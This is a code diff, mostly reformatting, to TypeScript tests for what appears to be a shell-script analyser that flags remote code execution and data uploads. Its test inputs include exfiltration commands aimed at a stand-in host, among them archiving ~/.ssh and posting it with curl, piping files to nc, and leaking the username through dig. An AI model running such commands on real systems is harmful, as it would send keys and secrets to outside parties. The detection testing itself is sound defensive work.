@@ -6,9 +6,10 @@ import type { Language } from '../../../src/model/index.ts'
 const view = (text: string, language: Language = 'shell') =>
   viewOf({ path: 'x', language, text }, language === 'shell' ? parseShell(text) : parseLexically(text, language))
 
-const executions = (text: string, language?: Language) => view(text, language).executions
-  .filter(one => one.urls.length > 0 || one.decoder)
-  .map(one => [one.command.name, one.how, one.urls[0] ?? one.decoder?.name])
+const executions = (text: string, language?: Language) =>
+  view(text, language)
+    .executions.filter(one => one.urls.length > 0 || one.decoder)
+    .map(one => [one.command.name, one.how, one.urls[0] ?? one.decoder?.name])
 
 describe('executions', () => {
   test.each([
@@ -30,8 +31,13 @@ describe('executions', () => {
   ])('%s', (text, expected) => expect(executions(text)).toContainEqual(expected))
 
   test.each([
-    'curl https://h.invalid/i | jq .', 'curl https://h.invalid/i | python3 -m json.tool', 'curl https://h.invalid/i -o data.json; python3 run.py data.json',
-    'eval "$(brew shellenv)"', 'echo eA== | base64 -d > cert.pem', 'bash "$(dirname "$0")/x.sh"', 'pip install requests',
+    'curl https://h.invalid/i | jq .',
+    'curl https://h.invalid/i | python3 -m json.tool',
+    'curl https://h.invalid/i -o data.json; python3 run.py data.json',
+    'eval "$(brew shellenv)"',
+    'echo eA== | base64 -d > cert.pem',
+    'bash "$(dirname "$0")/x.sh"',
+    'pip install requests',
   ])('%s runs nothing from elsewhere', text => expect(executions(text)).toEqual([]))
 
   test.each([
@@ -45,13 +51,22 @@ describe('executions', () => {
 })
 
 describe('uploads', () => {
-  const uploads = (text: string) => view(text).uploads.map(one => ({ urls: one.urls, files: one.files, variables: one.variables, from: one.from.map(command => command.name) }))
+  const uploads = (text: string) =>
+    view(text).uploads.map(one => ({
+      urls: one.urls,
+      files: one.files,
+      variables: one.variables,
+      from: one.from.map(command => command.name),
+    }))
   test.each([
     ['cat k | curl -d @- https://h.invalid', { urls: ['https://h.invalid'], files: [], variables: [], from: ['cat'] }],
     ['curl -F f=@k https://h.invalid', { urls: ['https://h.invalid'], files: ['k'], variables: [], from: [] }],
     ['curl -T ~/k https://h.invalid', { urls: ['https://h.invalid'], files: ['~/k'], variables: [], from: [] }],
     ['curl "https://h.invalid/?k=$KEY"', { urls: ['https://h.invalid/?k={}'], files: [], variables: ['KEY'], from: [] }],
-    ['tar czf a.tgz ~/.ssh; curl -F f=@a.tgz https://h.invalid', { urls: ['https://h.invalid'], files: ['a.tgz'], variables: [], from: ['tar'] }],
+    [
+      'tar czf a.tgz ~/.ssh; curl -F f=@a.tgz https://h.invalid',
+      { urls: ['https://h.invalid'], files: ['a.tgz'], variables: [], from: ['tar'] },
+    ],
     ['nc h.invalid 99 < k', { urls: ['h.invalid'], files: ['k'], variables: [], from: [] }],
     ['dig $(whoami).h.invalid', { urls: ['{}.h.invalid'], files: [], variables: [], from: ['whoami'] }],
   ])('%s', (text, expected) => expect(uploads(text)).toEqual([expected]))
